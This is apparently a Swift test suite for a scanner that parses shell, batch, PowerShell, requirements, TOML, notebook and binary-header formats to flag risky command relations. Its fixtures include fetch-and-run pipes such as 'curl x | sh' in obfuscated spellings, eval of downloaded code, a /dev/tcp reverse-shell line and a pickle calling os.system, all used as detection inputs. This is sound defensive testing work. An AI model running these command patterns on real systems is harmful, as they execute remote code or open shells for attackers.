import MScanBytes
import MScanFacts
import Testing

@testable import MScanFormats

/// `domain name < node` of the relations that a shell text states.
private func relations(_ text: String, _ format: any Format.Type = ShellFormat.self, name: String = "x.sh") -> [String]
{
  read(format, Array(text.utf8), name: name).facts.compactMap { fact in
    guard case .operation(let operation) = fact.payload, !operation.domain.isEmpty else { return nil }
    return "\(operation.domain) \(operation.name) < \(operation.node)"
  }
}

private func commands(_ text: String, _ format: any Format.Type = ShellFormat.self) -> [String] {
  read(format, Array(text.utf8), name: "x.sh").facts.compactMap { fact in
    guard case .operation(let operation) = fact.payload, operation.domain.isEmpty else { return nil }
    return ([operation.name] + operation.arguments).joined(separator: " ")
  }
}

@Suite struct RepositoryTests {
  @Test(
    arguments: [
      ("curl x | sh", ["pipe sh < curl"]), ("curl x|sh", ["pipe sh < curl"]), ("curl x |\n sh", ["pipe sh < curl"]),
      ("curl x | \\\n sh", ["pipe sh < curl"]), ("c'ur'l x | \"s\"h", ["pipe sh < curl"]),
      ("c\\url x | /bin/sh", ["pipe sh < curl"]),
      ("curl x | tee y | sh", ["pipe tee < curl", "pipe sh < curl", "pipe sh < tee"]),
      ("curl x || sh", []), ("curl x; sh", []), ("# curl x | sh", []), ("echo 'curl x | sh'", []),
      ("echo \"curl x | sh\"", []),
      ("curl x | sudo -E env A=1 sh", ["pipe sudo < curl", "pipe env < curl", "pipe sh < curl"]),
      ("sh -c 'curl x | sh'", ["pipe sh < curl"]),
      ("eval \"$(curl x)\"", ["substitution eval < curl", "substitution $() < curl"]),
      ("bash <(curl x)", ["substitution bash < curl"]), (". <(curl x)", ["substitution source < curl"]),
      ("eval `curl x`", ["substitution eval < curl", "substitution $() < curl"]),
      ("$(curl x)", ["substitution $() < curl"]), ("sh <<E\ncurl x | sh\nE\n", ["pipe sh < curl"]),
      ("curl x > y.sh; sh y.sh", ["redirect y.sh < curl", "made sh < curl"]),
      ("curl -o /tmp/y x; /tmp/y", ["run-made y < curl"]), ("{ curl x; } | sh", ["pipe sh < curl"]),
      ("(a; curl x) | sh", ["pipe sh < a", "pipe sh < curl"]),
      ("for a in b; do curl $a; done | sh", ["pipe sh < curl", "pipe sh < a"]),
      ("if true; then curl x | sh; fi", ["pipe sh < curl"]), ("A=1 curl x | A=2 sh", ["pipe sh < curl"]),
      ("sh -i >& /dev/tcp/h/1", ["redirect 1 < sh"]),
      ("echo \"a $(curl x | sh) b\"", ["substitution echo < curl", "pipe sh < curl", "substitution echo < sh"]),
      ("echo it's | sh", ["pipe sh < echo"]),
    ] as [(String, [String])])
  func relatesCommands(_ text: String, _ expected: [String]) {
    #expect(Set(relations(text)) == Set(expected), "\(text)")
  }

  @Test(arguments: [63, 64, 65, 200]) func longPipelinesKeepTheirEnds(_ count: Int) {
    let found = relations(String(repeating: "a | ", count: count) + "curl x | sh")
    #expect(Set(found) == ["pipe a < a", "pipe curl < a", "pipe sh < a", "pipe sh < curl"])
  }

  @Test func namesAreWords() {
    #expect(
      commands("/usr/bin/env -i X=1 python3 -m pip install 'a b' # c") == [
        "env -i X=1 python3 -m pip install a b", "python3 -i X=1 python3 -m pip install a b",
        "pip -i X=1 python3 -m pip install a b",
      ])
    #expect(
      commands("@ECHO off & rem x\ncall C:\\x\\Run.EXE a", BatchFormat.self) == [
        "echo off", "call C:\\x\\Run.EXE a", "run C:\\x\\Run.EXE a",
      ])
  }

  @Test(
    arguments: [
      ("https://h/x.whl", ["requirements.url=https://h/x.whl"]),
      ("x@https://h/x.zip", ["requirements.url=https://h/x.zip"]),
      ("x @ git+https://h/y@v1", ["requirements.vcs=git+https://h/y@v1"]), ("-e .", ["requirements.editable=."]),
      ("-e git+https://h/y", ["requirements.vcs=git+https://h/y"]), ("torch==1 ; x", ["requirements.package=torch@1"]),
      ("-i http://h/s", ["requirements.index=http://h/s"]),
      ("--index-url=http://h/s", ["requirements.index=http://h/s"]),
      ("-rx.txt", ["requirements.include=x.txt"]), ("# https://h/x", []),
      ("a  # https://h/x", ["requirements.package=a"]),
      ("\u{feff}https://h/x.whl", ["requirements.url=https://h/x.whl"]), ("./x", ["requirements.path=./x"]),
      ("--extra-index-url \\\n http://h/s", ["requirements.extra-index=http://h/s"]),
      ("git+file:///x", ["requirements.vcs=git+file:///x"]),
      ("https://u:p@h/x.whl", ["requirements.url=https://u:p@h/x.whl"]),
    ] as [(String, [String])])
  func readsRequirements(_ text: String, _ expected: [String]) {
    #expect(read(RequirementsFormat.self, Array(text.utf8), name: "requirements.txt").references == expected)
  }

  @Test(
    arguments: [
      ("x = 1\na = 'b'", ["a=b"]), ("[t]\na = \"b\"", ["t.a=b"]), ("[t.u]\na.b = 'c'", ["t.u.a.b=c"]),
      ("a = ['x', # ']'\n 'y']", ["a.0=x", "a.1=y"]), ("a = {b = 'c', d = ['e']}", ["a.b=c", "a.d.0=e"]),
      ("[[t]]\na='1'\n[[t]]\na='2'", ["t.0.a=1", "t.1.a=2"]), ("a = \"\"\"x\"y\"\"\"\nb = 'z'", ["a=x\"y", "b=z"]),
      ("\"a b\" = 'c'", ["a b=c"]), ("a = 'open\nb = 'c'", ["a=open", "b=c"]),
    ] as [(String, [String])])
  func readsTOML(_ text: String, _ expected: [String]) {
    #expect(read(TOMLFormat.self, Array(text.utf8), name: "pyproject.toml").values == expected)
  }

  @Test(
    arguments: [
      ("requirements.txt", "torch", "requirements"), ("requirements-dev.txt", "torch", "requirements"),
      ("Makefile", "all:", "makefile"), ("Dockerfile.gpu", "FROM x", "dockerfile"), ("x.sh", "ls", "shell"),
      ("run", "#!/bin/sh\nls", "shell"), ("run", "#!/usr/bin/env python3\n1", "python"), ("notes.txt", "ls", "text"),
      ("x.pth", "import os\n", "site-path"), ("nb.ipynb", "{\"cells\": []}", "notebook"),
      ("config.json", "{\"a\": 1}", "json"),
      ("MLmodel", "a: 1", "yaml"), ("config.yaml", "{\"a\": 1}", "yaml"), ("page", "<!DOCTYPE html><p>", "html"),
      (".gitattributes", "* text", "gitattributes"), ("model.bin", "#!/bin/sh\nls", "shell"), ("x.txt", "", "empty"),
    ] as [(String, String, String)])
  func identifiesTexts(_ name: String, _ text: String, _ format: String) {
    #expect(Identify.identify(ByteSource(Array(text.utf8)), name: name).format == format)
  }

  /// Whatever a text is called, an unpickler is asked.
  @Test(arguments: ["requirements.txt", "Makefile", "x.sh", "nb.ipynb", "config.yaml", "x.html"])
  func picklesKeepTheirFormat(_ name: String) {
    let found = Identify.identify(ByteSource(latin1("cos\nsystem\n(S'true'\ntR.")), name: name)
    #expect(found.format == "pickle" && !["", "pickle"].contains(found.claimed))
  }

  static func elf(type: UInt8, segment: UInt8) -> [UInt8] {
    var bytes = [UInt8](repeating: 0, count: 120)
    bytes.replaceSubrange(0..<7, with: [0x7f, 0x45, 0x4c, 0x46, 2, 1, 1])
    bytes[16] = type
    bytes[32] = 64
    bytes[54] = 56
    bytes[56] = 1
    bytes[64] = segment
    return bytes
  }

  @Test(
    arguments: [
      (elf(type: 3, segment: 1), "elf-library"), (elf(type: 3, segment: 3), "elf"), (elf(type: 2, segment: 1), "elf"),
      (elf(type: 1, segment: 1), "elf-object"), (Array(elf(type: 3, segment: 1)[..<20]), "elf"),
      ([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0x41, 0x49, 2] + [UInt8](repeating: 0, count: 20), "appimage"),
      ([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2], "mach-o"), ([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 61], "java-class"),
      ([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1, 3, 0, 0, 0, 6, 0, 0, 0], "mach-o-library"),
      ([0xfe, 0xed, 0xfa, 0xce, 0, 0, 0, 7, 0, 0, 0, 3, 0, 0, 0, 2], "mach-o"),
      ([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0], "wasm"),
      (Array("dex\n035\0".utf8), "dex"), (Array("MZqFpD='\n".utf8) + [0, 1], "ape"), (Array("MZ".utf8) + [0, 0], nil),
      ([0x4c, 0, 0, 0, 1, 0x14, 2, 0, 0, 0, 0, 0, 0xc0, 0], "windows-shortcut"), ([], nil),
    ] as [([UInt8], String?)])
  func tellsExecutablesApart(_ bytes: [UInt8], _ format: String?) {
    #expect(Executables.format(bytes) == format)
    for count in 0..<bytes.count { _ = Executables.format(Array(bytes[..<count])) }
    for index in bytes.indices {
      var changed = bytes
      changed[index] ^= 0xff
      _ = Executables.format(changed)
    }
  }

  @Test func notebookCellsAreChildren() {
    let text = #"""
      {"cells": [{"cell_type": "code", "source": ["import os\n", "!ls | sh\n", "x = !pwd"]},
       {"source": "%%bash\nls", "cell_type": "code"}, {"cell_type": "markdown", "source": "!x"},
       {"cell_type": "code", "source": "%%writefile a.sh\nls"}]}
      """#
    let sink = read(NotebookFormat.self, Array(text.utf8), name: "x.ipynb")
    #expect(
      sink.children.map { sink.artifacts[$0.index]?.name } == [
        "cell 1, shell", "cell 1", "cell 2, shell", "cell 4/a.sh",
      ])
    #expect(sink.children.map(\.format) == ["shell", "python", "shell", nil])
    #expect(sink.children.first?.source.prefix(99) == Array("ls | sh\npwd\n".utf8))
    #expect(sink.children[1].source.prefix(99) == Array("import os\npass\npass\n".utf8))
    #expect(sink.keepsTheLaws())
  }

  @Test func limitsAreNamed() {
    var limits = Limits()
    limits.repositoryText = 2
    for format in RepositoryNames.readers where format.id != NotebookFormat.id {
      #expect(
        read(format, Array("a b c".utf8), name: "x", limits: limits).anomalySubjects == ["limit.repositoryText!"],
        "\(format.id)")
    }
    limits = Limits()
    limits.shellCommands = 1
    #expect(
      read(ShellFormat.self, Array("a; b".utf8), name: "x", limits: limits).anomalySubjects == ["limit.shellCommands!"])
  }

  static let samples: [String: String] = [
    "shell": "A=1 c'u'rl \"a$(b `c`)\" | sudo sh -c 'x | y' >> ~/z <<E\nd | e\nE\neval $(f <(g)) # h\n\"",
    "batch": "@echo off\r\nrem x\r\ncurl ^\r\n y > z.exe & z.exe\r\n",
    "powershell": "IEX (a 'b').C(`\n'd') | e; f > g\n",
    "makefile": "A := $(shell b $(C))\nd: e\n\t@f $$(g) $(h \\\n i)\n",
    "dockerfile": "FROM a@b\nRUN --x=y c \\\n d\nADD http://e f\nCMD [\"g\", \"-c\", \"h|i\"]\n",
    "requirements": "-i http://a\nb==1 \\\n --hash=c\nd @ git+https://e@f#g\n-e .\n",
    "gitattributes": "*.a filter=b diff -text\n# c\n",
    "gitconfig": "[a \"b\"]\n\tc = \"d\"\n[submodule \"e\"]\nurl = f\\\ng\n",
    "ini": "[a]\nb =\n  c\n  d\ne: f\n", "shortcut": "[Desktop Entry]\nExec=a b\nURL=c\n",
    "site-path": "a\nimport b; c\n#d\n", "toml": "[a.b]\nc = ['d', \"\"\"e\"\"\"] # f\n[[g]]\nh = {i = 'j'}\n",
    "modelfile": "FROM ./a\nTEMPLATE \"\"\"b\nc\"\"\"\nSYSTEM d\n", "triton": "a: \"b\"\n",
    "checkpoint-state": "a: \"b\"\n",
    "html": "<a onload=b href='javascript:c'><script src=\"d\">e</script><",
    "notebook":
      "{\"cells\":[{\"cell_type\":\"code\",\"source\":[\"!a\\n\",\"%pip b\"],\"outputs\":[{\"data\":{\"text/html\":\"<script>\"}}]}]}",
  ]

  @Test func everyReaderHasASample() {
    let ids = RepositoryNames.readers.map { $0.id }
    #expect(Set(ids) == Set(Self.samples.keys) && ids.allSatisfy { RepositoryNames.formats.contains($0) })
  }

  @Test(arguments: RepositoryTests.samples.keys.sorted()) func noSurprise(_ id: String) throws {
    let format = try #require(FormatList.named(id))
    let sample = try #require(Self.samples[id])
    expectNoSurprise(format, Array(sample.utf8), name: "x")
  }

  /// Openings that are never closed, and relations of many: the work grows with the text.
  @Test(arguments: [
    "$(", "`", "<(", "\"", "'", "a|", "$((", "a <<E\n", "x $(", "eval ", "\"$(", "(", "{ ", "sh -c 'a' ",
  ])
  func hostileTextsEnd(_ piece: String) {
    var text: [UInt8] = []
    while text.count < 200_000 { text += piece.utf8 }
    #expect(read(ShellFormat.self, text, name: "x.sh").keepsTheLaws())
    #expect(read(PowerShellFormat.self, text, name: "x.ps1").keepsTheLaws())
  }
}
